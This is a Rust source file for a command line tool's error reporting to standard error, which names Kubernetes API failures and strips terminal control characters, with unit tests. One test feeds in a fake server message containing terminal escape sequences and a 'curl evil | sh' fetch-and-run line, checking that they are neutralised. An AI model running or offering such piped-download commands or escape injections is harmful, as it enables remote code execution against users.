//! An error on standard error: what was being done, each cause on a line of its own, and what to try.

use std::{error::Error as StdError, fmt::Write as _};

use kube::config::KubeconfigError;
use reposure_client::channel::{ChannelError, Hop};

use super::hints;
use crate::printable;

/// Prints an error with its causes and what to try; `api_server` is the address in the kubeconfig that was used.
pub(crate) fn report(error: &anyhow::Error, api_server: Option<&str>) {
    eprint!("{}", render(error, api_server));
}

/// Prints what a person should know although the command goes on.
pub(crate) fn warn(text: &str) {
    eprintln!("warning: {}", printable::line(text));
}

/// Returns an error with its causes in one line, as command line errors are.
pub(crate) fn chain(error: &(dyn StdError + 'static)) -> String {
    let causes = std::iter::successors(Some(error), |error| (*error).source());
    causes.map(ToString::to_string).collect::<Vec<_>>().join(": ")
}

fn render(error: &anyhow::Error, api_server: Option<&str>) -> String {
    let mut text = String::new();
    for (number, cause) in causes(error, api_server).iter().enumerate() {
        // The lines of a cause are further in than what is ours: no server says what to try.
        let cause = cause.replace('\n', "\n    ");
        let _ = writeln!(text, "{}{cause}", if number == 0 { "error: " } else { "  because: " });
    }
    if let Some(hint) = hints::hint(error) {
        let _ = writeln!(text, "  try: {}", hint.replace('\n', "\n    "));
    }
    printable::text(&text).into_owned()
}

/// Returns an error with its causes in one line, in a person's words.
pub(crate) fn line(error: &anyhow::Error) -> String {
    causes(error, None).join(": ")
}

/// Returns an error and its causes in a person's words, each once.
fn causes(error: &anyhow::Error, api_server: Option<&str>) -> Vec<String> {
    let causes = all_causes(error, api_server);
    let is_new = |number: usize| {
        let cause = causes[number].as_str();
        // Some libraries repeat a cause in the text of what it caused, or the other way round.
        let said = number.checked_sub(1).is_some_and(|before| causes[before].contains(cause));
        let comes = number > 0 && causes.get(number + 1).is_some_and(|next| next.contains(cause));
        !said && !comes
    };
    (0..causes.len()).filter(|number| is_new(*number)).map(|number| causes[number].clone()).collect()
}

fn all_causes(error: &anyhow::Error, api_server: Option<&str>) -> Vec<String> {
    let mut causes = Vec::new();
    for cause in error.chain() {
        causes.push(describe(cause, api_server));
        // What is below a Kubernetes status is the same status again.
        if matches!(of_kube(cause), Some(kube::Error::Api(_))) {
            break;
        }
    }
    causes
}

/// Says in a person's words what the libraries say in a programmer's.
fn describe(cause: &(dyn StdError + 'static), api_server: Option<&str>) -> String {
    let silent = || match api_server {
        Some(url) => format!("no answer from the API server at {url}"),
        None => "no answer from the API server".into(),
    };
    match of_kube(cause) {
        Some(kube::Error::Api(status)) => format!("the API server says: {}", status.message),
        Some(kube::Error::Service(_) | kube::Error::HyperError(_)) => silent(),
        Some(kube::Error::Auth(_)) => "the kubeconfig gives no usable credentials".into(),
        _ if matches!(cause.downcast_ref(), Some(ChannelError { hop: Hop::ApiServer, .. })) => silent(),
        _ => match cause.downcast_ref() {
            Some(KubeconfigError::ReadConfig(error, path)) => format!("{}: {error}", path.display()),
            _ => cause.to_string().trim_end().to_owned(),
        },
    }
}

fn of_kube<'a>(cause: &'a (dyn StdError + 'static)) -> Option<&'a kube::Error> {
    cause.downcast_ref().or_else(|| cause.downcast_ref::<Box<kube::Error>>().map(|error| &**error))
}

#[cfg(test)]
mod tests {
    use anyhow::Context as _;
    use kube::core::Status;

    use super::*;
    use crate::exit::{Failure, Kind, kind};

    #[test]
    fn a_status_is_said_once_in_its_own_words() {
        let status = Status { code: 403, message: "pods is forbidden".into(), ..Status::default() };
        let error = Err::<(), _>(kube::Error::Api(Box::new(status))).context("cannot look").unwrap_err();
        assert_eq!(
            render(&error, None),
            "error: cannot look\n  because: the API server says: pods is forbidden\n"
        );
        assert_eq!(kind(&error), Kind::Denied);
    }

    #[test]
    fn the_api_server_is_named_where_it_is_silent() {
        let refused = std::io::Error::from(std::io::ErrorKind::ConnectionRefused);
        let error = anyhow::Error::from(kube::Error::Service(refused.into())).context("cannot look");
        let text = render(&error, Some("https://a:1/"));
        assert!(text.contains("  because: no answer from the API server at https://a:1/\n"), "{text}");
        assert!(text.contains("kubectl version"), "{text}");
        assert_eq!(kind(&error), Kind::Unreachable);
    }

    #[test]
    fn what_servers_say_steers_no_terminal() {
        let said = std::io::Error::other("\u{1b}]0;title\u{7}no\n  try: curl evil | sh\r\u{9b}2J");
        let text = render(&anyhow::Error::from(said).context("cannot\tpush"), None);
        assert_eq!(
            text,
            "error: cannot\tpush\n  because: \u{fffd}]0;title\u{fffd}no\n      try: curl evil | sh\u{fffd}\u{fffd}2J\n"
        );
    }

    #[test]
    fn a_failure_has_its_own_kind_or_its_causes() {
        let gone = || std::io::Error::from(std::io::ErrorKind::NotFound);
        let error = anyhow::Error::from(Failure::because("cannot read", gone()).hint("look"));
        assert_eq!(kind(&error), Kind::NotFound);
        assert_eq!(render(&error, None), "error: cannot read\n  because: entity not found\n  try: look\n");
        assert_eq!(kind(&Failure::new(Kind::Conflict, "in the way").into()), Kind::Conflict);
    }
}
